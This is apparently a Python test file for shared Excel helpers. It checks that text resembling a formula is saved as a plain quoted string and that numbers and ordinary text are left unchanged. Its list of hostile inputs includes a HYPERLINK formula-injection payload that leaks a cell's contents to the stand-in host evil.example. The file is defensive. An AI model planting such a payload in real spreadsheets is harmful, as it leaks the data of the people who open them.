"""The shared Excel helpers: text that looks like a formula goes out as text."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from core.excel import cell_text_safe, formula_like, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A3,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read_back(workbook):
    return load_workbook(io.BytesIO(workbook_bytes(workbook))).active


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_goes_out_as_a_plain_string(value):
    workbook = Workbook()
    workbook.active.append([value])
    cell = read_back(workbook)["A1"]
    assert cell.data_type == "s"
    # Kept as written (Excel's quote prefix, no added character). openpyxl writes through
    # lxml (a requirement since the Word copies), which keeps a carriage return as &#13;.
    assert cell.value == value
    assert cell.quotePrefix


def test_numbers_and_ordinary_text_are_left_alone():
    workbook = Workbook()
    workbook.active.append([-40_000_000, 12.5, "Hợp tác xã Bản Mòng", None])
    sheet = read_back(workbook)
    assert sheet["A1"].value == -40_000_000 and sheet["A1"].data_type == "n"
    assert sheet["B1"].value == 12.5
    assert sheet["C1"].data_type == "s" and not sheet["C1"].quotePrefix
    assert sheet["D1"].value is None


def test_formula_like_is_about_text_only():
    assert formula_like("=x") and formula_like("-x") and formula_like("\tx")
    assert not formula_like(-5) and not formula_like("Bản Mòng") and not formula_like("")
    workbook = Workbook()
    cell = workbook.active["A1"]
    cell.value = "=1+1"
    assert cell.data_type == "f"  # what openpyxl would have written without the helper
    cell_text_safe(cell)
    assert cell.data_type == "s"
